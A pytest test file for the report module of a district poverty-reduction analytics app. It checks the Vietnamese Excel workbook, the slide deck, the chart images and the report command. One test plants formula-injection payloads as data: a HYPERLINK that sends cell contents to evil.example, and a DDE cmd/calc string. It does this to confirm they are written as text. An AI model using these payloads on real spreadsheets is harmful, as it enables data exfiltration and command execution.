"""Reports: the Excel pack in the official layout (figures equal to ``summary``), text never
turned into formulas, the meeting deck, the chart images and the ``report`` command."""

from __future__ import annotations

import io
import shutil
import zipfile
from datetime import date

import openpyxl
import pytest
from PIL import Image
from pptx import Presentation
from pptx.util import Inches, Pt

from analytics import budget, poverty, takeaways
from analytics.cli import main
from analytics.db import Database
from analytics.i18n import fmt_number, t
from analytics.reports import write_report
from analytics.reports.deck import headline_cards, write_deck
from analytics.reports.images import PNG_HEIGHT, PNG_WIDTH, key_charts, png_session
from analytics.reports.workbook import write_workbook
from analytics.summary import summary
from builders import RURAL, RURAL_2, URBAN, add_households, add_totals, household

YEAR = 2024
PRODUCED = date(2024, 11, 30)
SHEETS = ["Tổng hợp", "Diễn biến hộ nghèo", "Diễn biến hộ cận nghèo", "Thiếu hụt", "Nhóm đối tượng",
          "Dân tộc", "Nguyên nhân nghèo", "Chỉ tiêu", "Ngân sách"]


@pytest.fixture(scope="module")
def data(module_demo_db) -> dict:
    return summary(module_demo_db, YEAR)


@pytest.fixture(scope="module")
def workbook_bytes(module_demo_db) -> bytes:
    return write_workbook(module_demo_db, YEAR, produced=PRODUCED)


@pytest.fixture(scope="module")
def wb(workbook_bytes):
    return openpyxl.load_workbook(io.BytesIO(workbook_bytes))


@pytest.fixture(scope="module")
def chromium_once():
    """One Chromium for all the images of this module (starting it is the slow part)."""
    with png_session():
        yield


@pytest.fixture(scope="module")
def deck_bytes(module_demo_db, chromium_once) -> bytes:
    return write_deck(module_demo_db, YEAR, produced=PRODUCED)


# -- reading the official tables back ---------------------------------------------------------------

def tables(ws) -> list[dict]:
    """Each table of a sheet: its header texts, column-number labels -> column index, and body
    rows (lists of cells) down to the end of the borders."""
    found = []
    for row in ws.iter_rows(min_row=1, max_row=ws.max_row):
        if row[0].value == "A" and row[1].value == "B":
            r = row[0].row
            numbers = {c.value: c.column - 1 for c in row if c.value is not None}
            header = set()
            k = r - 1
            while k > 0 and any(ws.cell(k, c).border.top.style for c in range(1, len(numbers) + 1)):
                header |= {ws.cell(k, c).value for c in range(1, ws.max_column + 1)} - {None}
                k -= 1
            body = []
            k = r + 1
            while k <= ws.max_row and ws.cell(k, 2).border.left.style:  # the bordered body
                body.append([ws.cell(k, c) for c in range(1, len(numbers) + 1)])
                k += 1
            found.append({"numbers": numbers, "header": header, "rows": body, "number_row": r})
    return found


def value(row, numbers, label):
    return row[numbers[label]].value


def by_name(table) -> dict[str, list]:
    return {r[1].value: r for r in table["rows"] if r[1].value}


# -- the workbook --------------------------------------------------------------------------------------

def test_the_workbook_has_the_nine_sheets_in_vietnamese(wb):
    assert wb.sheetnames == SHEETS


@pytest.mark.parametrize("sheet", SHEETS)
def test_every_sheet_looks_like_the_official_table(wb, sheet):
    ws = wb[sheet]
    assert ws["A1"].value == "ỦY BAN NHÂN DÂN" and ws["A2"].value == "HUYỆN HỚN QUẢN"
    motto = [c.value for c in ws[1] + ws[2] if c.value and c.column > 2]
    assert motto == ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc"]
    assert ws["A4"].value == ws["A4"].value.upper() and ws["A4"].font.b
    assert "2024" in ws["A5"].value
    found = tables(ws)
    assert found, "no row of column numbers"
    first = found[0]
    # merged group headers over the table, and the frozen header below the column numbers
    assert any(m.min_row < first["number_row"] and m.max_col > m.min_col for m in ws.merged_cells.ranges)
    assert ws.freeze_panes == f"C{first['number_row'] + 1}"
    # the total row (the district's, for targets) comes first and is bold
    total = first["rows"][0]
    assert total[1].value in ("Tổng cộng", "Huyện Hớn Quản") and total[2].font.b
    # A4 landscape, one page wide, header rows repeated
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.page_setup.fitToWidth in (None, 1)  # absent means 1 in the file format
    assert ws.page_setup.fitToHeight == 0 and ws.print_title_rows
    # the data source and the date produced under the table
    texts = [c.value for row in ws.iter_rows(min_row=first["number_row"]) for c in row if isinstance(c.value, str)]
    assert any(x.startswith("Nguồn số liệu:") and "lô nhập" in x for x in texts)
    assert "Ngày lập báo cáo: 30/11/2024" in texts


def test_numbers_are_numbers_in_vietnamese_formats(wb):
    ws = wb["Tổng hợp"]
    table = tables(ws)[0]
    total = table["rows"][0]
    count, rate = total[table["numbers"]["1"]], total[table["numbers"]["4=3/1*100"]]
    assert isinstance(count.value, int) and "#,##0" in count.number_format and "[$-42A]" in count.number_format
    assert isinstance(rate.value, float) and rate.number_format.endswith("0.00")


def test_summary_sheet_equals_summary(wb, data):
    table = tables(wb["Tổng hợp"])[0]
    n, h = table["numbers"], data["households"]
    assert table["header"] >= {"TT", "Xã/Thị trấn", "Hộ nghèo", "Hộ cận nghèo", "Hộ có mức sống trung bình",
                               "Số hộ", "Tỷ lệ (%)", "Nhân khẩu"}
    assert list(n) == ["A", "B", "1", "2", "3", "4=3/1*100", "5", "6", "7=6/1*100", "8", "9", "10=9/1*100",
                       "11", "12=11/2*100", "13", "14=13/2*100"]
    assert {"Kết quả rà soát về khẩu", "Tổng số khẩu nghèo", "Tổng số khẩu cận nghèo", "Số khẩu"} <= table["header"]
    total = table["rows"][0]
    assert value(total, n, "1") == h["total"]
    assert value(total, n, "3") == h["poor"] and value(total, n, "6") == h["near_poor"]
    assert value(total, n, "4=3/1*100") == pytest.approx(h["poor_rate"] * 100)
    assert value(total, n, "7=6/1*100") == pytest.approx(h["near_poor_rate"] * 100)
    assert value(total, n, "5") == h["poor_ethnic_minority"]
    assert value(total, n, "8") == h["near_poor_ethnic_minority"]
    rows = by_name(table)
    assert len(table["rows"]) == 1 + len(data["communes"])
    for c in data["communes"]:
        row = rows[c["name"]]
        assert (value(row, n, "1"), value(row, n, "3"), value(row, n, "6")) == (c["total"], c["poor"], c["near_poor"])
        assert value(row, n, "4=3/1*100") == pytest.approx(c["poor_rate"] * 100)
    assert persons_figures(table["rows"][0], n) == persons_figures(h)
    for c in data["communes"]:
        assert persons_figures(rows[c["name"]], n) == persons_figures(c), c["name"]
    assert h["persons"] > 0 and h["poor_persons"] > 0
    # average living standard: the households the standard puts in the band, commune by commune
    averages = [value(r, n, "9") for r in table["rows"][1:]]
    assert value(total, n, "9") == sum(averages) > 0


# Form 1's columns of households and persons: (summary key, column-number label, percentage?).
PERSONS_COLUMNS = [("total", "1", False), ("persons", "2", False), ("poor", "3", False),
                   ("near_poor", "6", False), ("poor_persons", "11", False),
                   ("poor_persons_rate", "12=11/2*100", True), ("near_poor_persons", "13", False),
                   ("near_poor_persons_rate", "14=13/2*100", True)]


def persons_figures(source, numbers=None) -> list:
    """The Hộ and Nhân khẩu figures of a summary row (``numbers`` given) or of a ``summary``
    mapping, alike: rates in percent rounded, a missing persons figure as the sheet's words for it."""
    out = []
    for key, label, pct in PERSONS_COLUMNS:
        v = value(source, numbers, label) if numbers is not None else source[key]
        if numbers is None and v is None and "persons" in key:
            v = t("report_no_persons", "vi")
        elif numbers is None and pct:
            v = v * 100
        out.append(round(v, 9) if isinstance(v, float) else v)
    return out


def test_summary_sheet_persons_from_commune_totals(empty_db):
    """Hand-built: Thanh An's and Tân Khai's persons come from the commune totals and their
    households' members; An Khương's totals have no persons, so its persons cells say so. Thanh An
    also has 2022's list, hence a row of form 2."""
    add_totals(empty_db, 2023, {RURAL: (250, 1000), URBAN: (100, 300), RURAL_2: 80})
    add_totals(empty_db, 2022, {RURAL: (240, 960)})
    add_households(empty_db, [
        household("p1", 2022, RURAL, recorded="poor", members=6),
        household("p1", 2023, RURAL, recorded="poor", members=6),
        household("p2", 2023, RURAL, recorded="poor", members=3),
        household("n1", 2023, RURAL, recorded="near_poor", members=4),
        household("u1", 2023, URBAN, recorded="near_poor", members=2),
        household("k1", 2023, RURAL_2, recorded="poor", members=5),
    ])
    data = summary(empty_db, 2023)
    wb = openpyxl.load_workbook(io.BytesIO(write_workbook(empty_db, 2023, produced=PRODUCED)))
    table = tables(wb["Tổng hợp"])[0]
    n, rows = table["numbers"], by_name(table)
    for c in data["communes"]:
        assert persons_figures(rows[c["name"]], n) == persons_figures(c), c["name"]
    assert persons_figures(table["rows"][0], n) == persons_figures(data["households"])
    no_figure = t("report_no_persons", "vi")
    thanh_an = rows["Xã Thanh An"]
    assert [value(thanh_an, n, k) for k in ("1", "2", "3", "11", "13")] == [250, 1000, 2, 9, 4]
    assert value(thanh_an, n, "12=11/2*100") == pytest.approx(0.9)
    assert value(rows["Thị trấn Tân Khai"], n, "14=13/2*100") == pytest.approx(2 / 300 * 100)
    an_khuong = rows["Xã An Khương"]
    assert (value(an_khuong, n, "1"), value(an_khuong, n, "3"), value(an_khuong, n, "11")) == (80, 1, 5)
    assert value(an_khuong, n, "2") == value(an_khuong, n, "12=11/2*100") == no_figure

    # Thanh An has household lists in 2022 and 2023: its Nhân khẩu row of form 2 counts their members
    poor = tables(wb["Diễn biến hộ nghèo"])[0]
    n = poor["numbers"]
    households, persons = (r for r in poor["rows"][2:] if r[1].value == "Xã Thanh An" or r[1].value is None)
    assert [value(r, n, k) for r in (households, persons) for k in ("C", "1", "9=1-2-3-4+5+6+7+8")] == \
        ["Hộ", 1, 2, "Nhân khẩu", 6, 9]


@pytest.mark.parametrize("sheet, key", [("Diễn biến hộ nghèo", "transitions"),
                                        ("Diễn biến hộ cận nghèo", "near_poor_transitions")])
def test_transition_sheets_equal_summary_and_balance(wb, data, sheet, key):
    table = tables(wb[sheet])[0]
    n = table["numbers"]
    assert list(n)[-1] == "9=1-2-3-4+5+6+7+8"
    assert {"Diễn biến giảm", "Phát sinh mới"} <= table["header"]
    columns = list(data[key])  # start, the seven changes, end, in the official order
    labels = [str(i) for i in range(1, 9)] + ["9=1-2-3-4+5+6+7+8"]
    total = table["rows"][0]
    assert [value(total, n, lb) for lb in labels] == [data[key][c] for c in columns]
    assert data[key]["start"] == (125 if key == "transitions" else 143)  # the end of 2023
    communes = {c["name"]: c[key] for c in data["communes"] if c[key]}
    rows = by_name(table)
    for name, expected in communes.items():
        got = [value(rows[name], n, lb) for lb in labels]
        assert got == [expected[c] for c in columns]
        assert got[8] == got[0] - got[1] - got[2] - got[3] + got[4] + got[5] + got[6] + got[7]



@pytest.mark.parametrize("sheet, status", [("Diễn biến hộ nghèo", "poor"), ("Diễn biến hộ cận nghèo", "near_poor")])
def test_transition_sheets_have_households_and_persons_rows(wb, data, module_demo_db, sheet, status):
    """Form 2's split: each unit a "Hộ" row then a "Nhân khẩu" row. The persons at the start and
    the end are ``summary``'s persons of the two years; the changes between are counted in
    households only, and their persons cells say so."""
    table = tables(wb[sheet])[0]
    n, body = table["numbers"], table["rows"]
    assert "Phân tổ" in table["header"] and len(body) == 2 * (1 + sum(bool(c["transitions"]) for c in data["communes"]))
    assert [value(r, n, "C") for r in body] == ["Hộ", "Nhân khẩu"] * (len(body) // 2)
    previous = {c["code"]: c for c in summary(module_demo_db, YEAR - 1)["communes"]}
    names = {c["name"]: c for c in data["communes"]}
    no_figure = t("report_no_persons", "vi")
    starts, ends = [], []
    for households, persons in zip(body[2::2], body[3::2]):
        c = names[households[1].value]
        start, end = value(persons, n, "1"), value(persons, n, "9=1-2-3-4+5+6+7+8")
        assert (start, end) == (previous[c["code"]][f"{status}_persons"], c[f"{status}_persons"])
        assert [value(persons, n, str(i)) for i in range(2, 9)] == [no_figure] * 7
        starts.append(start)
        ends.append(end)
    total = body[1]
    assert (value(total, n, "1"), value(total, n, "9=1-2-3-4+5+6+7+8")) == (sum(starts), sum(ends))
    assert value(total, n, "9=1-2-3-4+5+6+7+8") == data["households"][f"{status}_persons"] > 0


def test_deprivation_sheet_equals_summary(wb, data):
    table = tables(wb["Thiếu hụt"])[0]
    n, rows = table["numbers"], table["rows"]
    poor_total, near_total = rows[0], rows[1]
    assert poor_total[2].value == "Hộ nghèo" and near_total[2].value == "Hộ cận nghèo"
    assert value(poor_total, n, "1") == data["households"]["poor"]
    assert value(near_total, n, "1") == data["households"]["near_poor"]
    indicators = data["deprivations"]["indicators"]
    assert len(n) == 4 + 2 * len(indicators)
    for i, ind in enumerate(indicators):
        count_label = str(2 + 2 * i)
        share_label = f"{3 + 2 * i}={count_label}/1*100"
        assert value(poor_total, n, count_label) == ind["poor_count"]
        assert value(near_total, n, count_label) == ind["near_poor_count"]
        assert value(poor_total, n, share_label) == pytest.approx(ind["poor_share"] * 100)
        assert value(near_total, n, share_label) == pytest.approx(ind["near_poor_share"] * 100)
        assert f"{ind['number']}. {ind['name']}" in table["header"]
        # the communes' rows add up to the district's
        assert sum(r[n[count_label]].value for r in rows[2::2]) == ind["poor_count"]
        assert sum(r[n[count_label]].value for r in rows[3::2]) == ind["near_poor_count"]
    # the commune name is merged over its two rows (poor, near-poor)
    merged = {str(m) for m in wb["Thiếu hụt"].merged_cells.ranges}
    first = rows[2][1]
    assert f"B{first.row}:B{first.row + 1}" in merged


def test_group_and_ethnicity_sheets_equal_the_analytics(wb, data, module_demo_db):
    h = data["households"]
    groups = tables(wb["Nhóm đối tượng"])[0]
    n = groups["numbers"]
    total = groups["rows"][0]
    assert (value(total, n, "1"), value(total, n, "3")) == (h["poor"], h["near_poor"])
    expected = poverty.group_breakdown(module_demo_db, YEAR)
    got = [(value(r, n, "1"), value(r, n, "3")) for r in groups["rows"] if r[0].value]
    assert got == list(zip(expected["poor"], expected["near_poor"]))
    assert got[0] == (h["poor_ethnic_minority"], h["near_poor_ethnic_minority"])

    eth = tables(wb["Dân tộc"])[0]
    n = eth["numbers"]
    rows = by_name(eth)
    assert (value(eth["rows"][0], n, "1"), value(eth["rows"][0], n, "3")) == (h["poor"], h["near_poor"])
    assert eth["rows"][1][1].value == "Kinh"
    minorities = rows["Các dân tộc thiểu số"]
    assert value(minorities, n, "1") == h["poor_ethnic_minority"]
    assert value(minorities, n, "3") == h["near_poor_ethnic_minority"]
    leaves = [r for r in eth["rows"][1:] if r[1].value != "Các dân tộc thiểu số"]
    assert sum(value(r, n, "1") for r in leaves) == h["poor"]
    assert value(eth["rows"][1], n, "2") == pytest.approx(value(eth["rows"][1], n, "1") / h["poor"] * 100)


def test_target_sheet_equals_summary(wb, data):
    table = tables(wb["Chỉ tiêu"])[0]
    n = table["numbers"]
    assert {"Kế hoạch", "Thực hiện", "Đánh giá"} <= table["header"] and "3=1-2" in n
    district = [x for x in data["targets"] if x["org_unit"] == "694"]
    rows = [r for r in table["rows"] if r[2].font.b]  # the district's rows, in bold
    by_indicator = {r[2].value: r for r in rows}
    assert len(rows) == len(district)
    names = {"poor_reduction": "Giảm số hộ nghèo", "poor_rate": "Tỷ lệ hộ nghèo"}
    for x in district:
        if x["indicator"] not in names:
            continue
        row = by_indicator[names[x["indicator"]]]
        scale = 100 if x["unit"] == "share" else 1
        assert value(row, n, "1") == pytest.approx(x["target"] * scale)
        assert value(row, n, "2") == pytest.approx(x["achieved"] * scale)
        assert value(row, n, "3=1-2") == pytest.approx(x["gap"] * scale)
        assert value(row, n, "E") == t(f"report_status_{x['status']}")
    assert rows[0][1].value == "Huyện Hớn Quản"
    commune_rows = [r for r in table["rows"] if r[0].value]
    assert len(commune_rows) == len(data["communes"])


def test_budget_sheet_equals_summary(wb, data):
    lines, sources = tables(wb["Ngân sách"])
    b = data["budget"]
    n = lines["numbers"]
    total = lines["rows"][0]
    assert value(total, n, "4=1+2+3") == b["plan_total"] == 4034
    assert value(total, n, "5") == pytest.approx(b["disbursed_total"])
    assert value(total, n, "6=5/4*100") == pytest.approx(b["disbursement_rate"] * 100)
    for i, s in enumerate(("central", "province", "district"), 1):
        assert value(total, n, str(i)) == b["by_source"][s]
    leaves = [r for r in lines["rows"][1:] if not r[1].font.i]  # project rows above sub-projects are italic
    assert len(leaves) == len(b["lines"])
    assert sum(value(r, n, "4=1+2+3") for r in leaves) == b["plan_total"]
    behind = {x["name_vi"] for x in b["lines"] if x["behind_pace"]}
    assert {r[1].value for r in leaves if value(r, n, "D") == "x"} == behind
    m = sources["numbers"]
    assert value(sources["rows"][0], m, "1") == b["plan_total"]
    assert [value(r, m, "2") for r in sources["rows"][1:]] == pytest.approx(list(b["disbursed_by_source"].values()))
    period = wb["Ngân sách"]["A5"].value
    assert period.endswith("30/11/2024")  # the date of the latest disbursement report


def test_the_workbook_contains_no_household_names_or_ids(workbook_bytes, module_demo_db):
    heads = {r[0] for r in module_demo_db.query("SELECT DISTINCT head_name FROM household_current")}
    ids = {r[0] for r in module_demo_db.query("SELECT DISTINCT household_id FROM household_current")}
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    strings = {c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert not strings & heads
    assert not [s for s in strings for i in list(ids)[:200] if i in s]


def test_hostile_names_are_written_as_text_not_formulas(demo_db):
    hostile_commune = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    hostile_agency = "@SUM(1+1)*cmd|' /C calc'!A0"
    with demo_db.transaction() as cur:
        cur.execute("UPDATE org_unit SET name = ? WHERE vintage = 2024 AND code = '25327'", [hostile_commune])
        cur.execute("UPDATE budget_plan SET agency = ? WHERE project = 'DA6'", [hostile_agency])
        cur.execute("UPDATE budget_plan SET agency = '+1-1' WHERE project = 'DA7'")
        cur.execute("UPDATE budget_plan SET agency = '-2+3' WHERE project = 'DA2'")
        budget.refresh_lines(cur)  # edited in place, not imported: the kept lines rebuilt by hand
    raw = write_workbook(demo_db, YEAR, produced=PRODUCED)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in x or "<f " in x for x in sheets)  # no formula anywhere
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    cells = {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (hostile_commune, hostile_agency, "+1-1", "-2+3"):
        assert text in cells, text
        assert cells[text].data_type == "s"


def test_the_workbook_in_english(module_demo_db):
    wb = openpyxl.load_workbook(io.BytesIO(write_workbook(module_demo_db, YEAR, lang="en", produced=PRODUCED)))
    assert wb.sheetnames[0] == "Summary" and wb.sheetnames[-1] == "Budget"
    assert tables(wb["Summary"])[0]["rows"][0][1].value == "Total"
    assert "[$-42A]" not in tables(wb["Summary"])[0]["rows"][0][2].number_format


# -- the deck and the images -------------------------------------------------------------------------

def slide_texts(slide) -> list[str]:
    return [p.text for s in slide.shapes if s.has_text_frame for p in s.text_frame.paragraphs if p.text]


def test_the_deck_has_the_expected_slides(deck_bytes, data, module_demo_db):
    prs = Presentation(io.BytesIO(deck_bytes))
    assert (prs.slide_width, prs.slide_height) == (Inches(13.333), Inches(7.5))  # 16:9
    slides = list(prs.slides)
    assert len(slides) == 6
    title = " ".join(slide_texts(slides[0]))
    assert "HỚN QUẢN" in title and "2024" in title and "30/11/2024" in title
    headline = slide_texts(slides[1])
    h = data["households"]
    for figure in (fmt_number(h["poor"]), fmt_number(h["near_poor"]),
                   fmt_number(data["transitions"]["start"] - data["transitions"]["end"])):
        assert figure in headline
    assert any("4.034 triệu đồng" in x for x in headline)
    charts = key_charts(module_demo_db, YEAR)
    assert [c.key for c in charts] == ["trend", "gaps", "deprivations", "budget"]
    for slide, chart in zip(slides[2:], charts):
        pictures = [s for s in slide.shapes if s.shape_type == 13]
        assert len(pictures) == 1
        image = Image.open(io.BytesIO(pictures[0].image.blob))
        assert image.format == "PNG" and image.size == (PNG_WIDTH, PNG_HEIGHT)
        texts = slide_texts(slide)
        assert chart.title in texts and chart.takeaway in texts
    assert charts[0].takeaway == takeaways.trend(poverty.trend(module_demo_db), "vi")
    # aggregates only: no household's name on any slide
    heads = {r[0] for r in module_demo_db.query("SELECT DISTINCT head_name FROM household_current")}
    words = " ".join(x for slide in slides for x in slide_texts(slide))
    assert not [h for h in heads if h in words]


def test_the_deck_is_readable_from_the_back_of_the_room(deck_bytes):
    prs = Presentation(io.BytesIO(deck_bytes))
    sizes = [r.font.size for slide in prs.slides for s in slide.shapes if s.has_text_frame
             for p in s.text_frame.paragraphs for r in p.runs]
    assert sizes and min(sizes) >= Pt(12)
    for slide in list(prs.slides)[2:]:
        big = [r.font.size for s in slide.shapes if s.has_text_frame for p in s.text_frame.paragraphs
               for r in p.runs if r.font.size >= Pt(20)]
        assert len(big) >= 2  # the title and the takeaway


def test_chart_images_are_pngs_of_the_set_size(module_demo_db, chromium_once, tmp_path):
    write_report(module_demo_db, YEAR, tmp_path / "bieu-do.zip")
    with zipfile.ZipFile(tmp_path / "bieu-do.zip") as archive:
        assert archive.namelist() == ["01-trend.png", "02-gaps.png", "03-deprivations.png", "04-budget.png"]
        for name in archive.namelist():
            image = Image.open(io.BytesIO(archive.read(name)))
            assert image.format == "PNG" and image.size == (PNG_WIDTH, PNG_HEIGHT)
            low, high = image.convert("L").getextrema()
            assert high - low > 100  # a drawn chart, not a blank canvas


# -- the command ------------------------------------------------------------------------------------

def test_report_command_writes_the_workbook_and_checks_its_input(demo_db_file, tmp_path):
    db_path = tmp_path / "cli.duckdb"
    shutil.copy(demo_db_file, db_path)
    out = tmp_path / "bao-cao.xlsx"
    assert main(["report", "--year", "2024", "--out", str(out), "--db", str(db_path)]) == 0
    assert openpyxl.load_workbook(out).sheetnames == SHEETS
    assert main(["report", "--year", "2024", "--out", str(tmp_path / "x.docx"), "--db", str(db_path)]) == 2
    assert not (tmp_path / "x.docx").exists()
    assert main(["report", "--year", "2019", "--out", str(tmp_path / "x.xlsx"), "--db", str(db_path)]) == 1
    assert main(["report", "--year", "2024", "--out", str(out), "--as-of", "30/06/2024"]) == 2


def test_reports_as_of_a_date_mid_year(module_demo_db, tmp_path):
    mid = date(2024, 6, 30)
    out = tmp_path / "giua-nam.xlsx"
    write_report(module_demo_db, YEAR, out, as_of=mid)
    sheet = openpyxl.load_workbook(out)["Ngân sách"]
    lines = tables(sheet)[0]
    mid_year = summary(module_demo_db, YEAR, as_of=mid)
    assert sheet["A5"].value.endswith("30/06/2024")
    assert value(lines["rows"][0], lines["numbers"], "5") == pytest.approx(mid_year["budget"]["disbursed_total"])
    assert mid_year["budget"]["disbursed_total"] < summary(module_demo_db, YEAR)["budget"]["disbursed_total"]
    label, figure, detail = headline_cards(mid_year, "vi")[-1]  # the deck's budget card
    assert "30/06/2024" in detail


def test_write_report_follows_the_suffix(module_demo_db, tmp_path):
    with pytest.raises(ValueError):
        write_report(module_demo_db, YEAR, tmp_path / "x.odt")
    write_report(module_demo_db, YEAR, tmp_path / "r.xlsx")
    assert openpyxl.load_workbook(tmp_path / "r.xlsx").sheetnames == SHEETS


# -- the buttons ----------------------------------------------------------------------------------

def test_the_overview_offers_the_workbook_and_the_deck_and_the_data_page_the_workbook(
        app_db, monkeypatch, fresh_streamlit_caches):
    from conftest import open_app

    at = open_app(monkeypatch, app_db, role="admin", timeout=120)
    assert not at.exception
    labels = [b.proto.label for b in at.get("download_button")]
    assert "Tải báo cáo Excel năm 2024" in labels and "Tải bài trình chiếu năm 2024" in labels
    at.switch_page("pages/data.py").run()  # the Data page offers the workbook only
    assert not at.exception
    labels = [b.proto.label for b in at.get("download_button")]
    assert at.selectbox(key="year").value == 2024
    assert "Tải báo cáo Excel năm 2024" in labels  # for the page's year
    assert not any(x.startswith("Tải bài trình chiếu") for x in labels)


@pytest.mark.browser
def test_the_overview_buttons_download_the_workbook_and_the_deck(live_server, browser_page, tmp_path,
                                                                  demo_db_file):
    from browser import login, screenshot

    page = browser_page
    login(page, live_server.url + "/?year=2024", "viewer")
    button = page.get_by_role("button", name="Tải báo cáo Excel năm 2024")
    button.scroll_into_view_if_needed()
    screenshot(page, "report-buttons")
    with page.expect_download(timeout=120_000) as info:
        button.click()
    assert info.value.suggested_filename == "bao-cao-giam-ngheo-2024.xlsx"
    info.value.save_as(tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert wb.sheetnames == SHEETS
    with Database(demo_db_file, read_only=True) as db:  # the server runs on a copy of it
        poor = summary(db, YEAR)["households"]["poor"]
    assert tables(wb["Tổng hợp"])[0]["rows"][0][4].value == poor
    with page.expect_download(timeout=180_000) as info:
        page.get_by_role("button", name="Tải bài trình chiếu năm 2024").click()
    info.value.save_as(tmp_path / "r.pptx")
    assert len(Presentation(tmp_path / "r.pptx").slides) == 6


def test_the_reports_sources_list_the_review_tables_batches(empty_db):
    """A year known only from the official review tables: the source note names their batches."""
    from pathlib import Path

    from analytics.importer import import_file
    from analytics.reports.workbook import ReportContext
    fixtures = Path(__file__).resolve().parent / "fixtures"
    ids = []
    for name in ("review_province_form_1.xlsx", "review_province_form_2.xlsx"):
        report = import_file(empty_db, (fixtures / name).read_bytes(), name)
        assert report.status == "committed", [e.to_dict() for e in report.errors]
        ids.append(str(report.batch_id))
    assert ReportContext(empty_db, 2024).sources == (ids, False)
    assert ReportContext(empty_db, 2023).sources == ([], False)  # no table of that year
    ws = openpyxl.load_workbook(io.BytesIO(write_workbook(empty_db, 2024)))[t("report_sheet_summary")]
    note = next(c.value for row in ws.iter_rows() for c in row if str(c.value or "").startswith("Nguồn số liệu:"))
    assert f"lô nhập số {', '.join(ids)}." in note
